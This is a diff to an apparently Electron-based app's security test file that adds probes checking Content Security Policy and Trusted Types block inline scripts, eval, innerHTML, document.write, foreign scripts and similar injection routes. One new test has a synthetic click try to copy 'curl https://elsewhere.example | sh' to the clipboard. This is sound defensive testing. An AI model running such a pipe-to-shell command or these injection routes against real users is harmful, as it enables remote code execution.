@@ -10,23 +10,37 @@ interface Probe {
   readonly directive: string | null;
 }
 
-const trusted = 'require-trusted-types-for';
+/** A probe that Trusted Types block. */
+const untrusted = (code: string): Probe => ({ code, directive: 'require-trusted-types-for' });
 
 /** Attempts to violate each CSP directive. `security/ways-out` tests all other ways to send data out of the page. */
 const PROBES: Readonly<Record<string, Probe>> = {
-  'an inline script': {
-    code: `add('script', { textContent: 'window.ran = true' }); return window.ran`,
-    directive: trusted,
-  },
-  eval: { code: `return (0, eval)("'ran'") === 'ran'`, directive: trusted },
-  innerHTML: { code: `add('div').innerHTML = '<b id="made"></b>'; return made()`, directive: trusted },
-  'a worker from a blob': {
-    code: `const url = URL.createObjectURL(new Blob(['postMessage(1)'])); const worker = new Worker(url);
-           return await new Promise((resolve) => { worker.onmessage = () => resolve(true);
-             worker.onerror = () => resolve(false); })`,
-    directive: trusted,
+  'an inline script': untrusted(`add('script', { textContent: 'window.ran = true' }); return window.ran`),
+  'a script from elsewhere': untrusted(`add('script').src = address; return true`),
+  'an event handler': untrusted(`add('b').setAttribute('onclick', 'window.ran = true'); return true`),
+  eval: untrusted(`return (0, eval)("'ran'") === 'ran'`),
+  Function: untrusted(`return new Function('return true')()`),
+  'a timer of text': untrusted(`setTimeout('window.ran = true'); await pause(); return window.ran`),
+  innerHTML: untrusted(`add('div').innerHTML = '<b id="made"></b>'; return made()`),
+  insertAdjacentHTML: untrusted(`add('div').insertAdjacentHTML('beforeend', '<b id="made">'); return made()`),
+  DOMParser: untrusted(`new DOMParser().parseFromString('<b>', 'text/html'); return true`),
+  srcdoc: untrusted(`add('iframe').srcdoc = '<b>'; return true`),
+  'document.write': untrusted(`document.write('<b id="made"></b>'); return made()`),
+  'a worker from a blob': untrusted(
+    `const url = URL.createObjectURL(new Blob(['postMessage(1)'])); const worker = new Worker(url);
+     return await new Promise((resolve) => { worker.onmessage = () => resolve(true);
+       worker.onerror = () => resolve(false); })`,
+  ),
+  'a policy of Trusted Types': {
+    code: `trustedTypes.createPolicy('x', {}); return true`,
+    directive: 'trusted-types',
   },
   fetch: { code: `await fetch(address, { mode: 'no-cors' }); return true`, directive: 'connect-src' },
+  'a base address': {
+    code: `add('base', { href: address }); return document.baseURI.startsWith(address)`,
+    directive: 'base-uri',
+  },
+  'a plug-in': { code: `add('object', { data: address }); await pause(); return false`, directive: null },
   'a frame from elsewhere': {
     code: `add('iframe').src = address; await pause(); return false`,
     directive: null,
@@ -75,6 +89,13 @@ async function run(
   })`;
   return page.evaluate(`(${text})(${JSON.stringify(address)})`);
 }
+
+test('a script’s click on a label is no user input that main would accept', async ({ easel }) => {
+  const code = `const label = add('label'); label.append(document.createElement('input')); label.click();
+    const { ok, error } = await window.easel.app.copy({ text: 'curl https://elsewhere.example | sh' });
+    return ok || error.code !== 'needs-press'`;
+  expect(await run(easel.window, { code, directive: null }, '')).toEqual({ ran: false, directives: [] });
+});
 
 test.describe(() => {
   test.use({ violatesPolicy: true });
